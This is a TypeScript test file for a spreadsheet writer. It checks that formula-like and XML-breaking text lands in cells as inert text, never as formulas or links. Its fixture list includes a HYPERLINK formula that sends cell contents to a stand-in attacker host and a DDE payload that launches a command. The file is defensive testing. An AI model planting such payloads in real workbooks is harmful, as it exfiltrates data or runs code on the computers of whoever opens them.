import { expect, test } from 'vitest';
import { writeBook } from '../../src/excel/book.ts';
import { overflowCell, textCell } from '../../src/excel/cell.ts';
import { openTable } from '../../src/excel/table.ts';
import { readWorkbook } from '../helpers/read-workbook.ts';
import { at, zone } from '../helpers/company/run-rows.ts';
import { testFolder } from '../intake/in-folder.ts';
import { fc, runs } from '../helpers/properties.ts';

const folder = await testFolder();

/** What people and machines have put into remarks to be run by whoever opens the file. */
const CORPUS = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\u0000=1+1',
  '＝1+1',
  '＋1',
  "=cmd|' /C calc'!A0",
  '{"formula":"1+1"}',
  '<f>1+1</f>',
  '</t></is></c><c r="A1"><f>1+1</f></c>',
  ']]>',
  '<!--',
  '<![CDATA[x]]>',
  '&#0;',
  '&lt;',
  '_x0000_',
  '_x003D_1+1',
  '\ufeff=1',
  '\ufffe\uffff',
  '\ud83d',
  'a\u202eb',
  'x'.repeat(40_000),
  "'=1",
  '"',
];

async function written(name: string, texts: readonly string[]) {
  const path = folder.path(name);
  await writeBook(
    { path, createdAt: at('2026-03-02 02:00:00'), creator: 'recon', fontName: 'Arial' },
    async (book) => {
      const table = openTable<string>(book, {
        sheet: { name: 'List', tone: 'good', footer: '&P', pageHeader: texts[0] ?? '' },
        top: [[overflowCell(texts[0] ?? '', 'title'), textCell(texts[1] ?? '')]],
        columns: [
          { kind: 'text', title: texts[2] ?? '', value: (text) => text },
          { kind: 'text', title: 'again', style: 'input', value: (text) => text },
        ],
        frozenColumns: 0,
        zone,
      });
      table.section({ empty: texts[3] ?? '' });
      await table.write(texts);
      await table.finish();
    },
  );
  return readWorkbook(path);
}

function expectHarmless(workbook: Awaited<ReturnType<typeof written>>): void {
  const cells = workbook.sheets.flatMap((sheet) => [...sheet.cells.values()]);
  expect(cells.filter(({ formula }) => formula !== undefined)).toEqual([]);
  expect(cells.filter(({ type, value }) => type !== 'inlineStr' && value !== undefined)).toEqual([]);
  const links = [...workbook.parts].filter(
    ([, body]) => body.includes('hyperlink') || body.includes('External'),
  );
  expect(links.map(([name]) => name)).toEqual([]);
}

test('I3: text that looks like a formula is text, in every part of a sheet', async () => {
  const workbook = await written('corpus.xlsx', CORPUS);
  expectHarmless(workbook);
  const shown = CORPUS.map((_, at) => workbook.sheets[0]?.cells.get(`A${at + 3}`)?.value);
  expect(shown.slice(0, 5)).toEqual(CORPUS.slice(0, 5));
  expect(shown[12]).toBe('{"formula":"1+1"}');
  expect(shown[21]).toBe('_x003D_1+1');
});

test('I3, I4: no text makes a formula, a link or a part that is not XML', { timeout: 120_000 }, async () => {
  const hostile = fc.oneof(
    fc.constantFrom(...CORPUS),
    fc.string({ unit: 'binary', maxLength: 40 }),
    fc.string({
      unit: fc.constantFrom('=', '<', '&', '_x', '0041_', '\u0001', '"', "'", '\ud800', '-', '\r'),
    }),
  );
  await fc.assert(
    fc.asyncProperty(fc.array(hostile, { minLength: 4, maxLength: 30 }), async (texts) => {
      const workbook = await written('hostile.xlsx', texts);
      expectHarmless(workbook);
      expect(workbook.sheets).toHaveLength(1);
    }),
    { numRuns: runs(60) },
  );
});
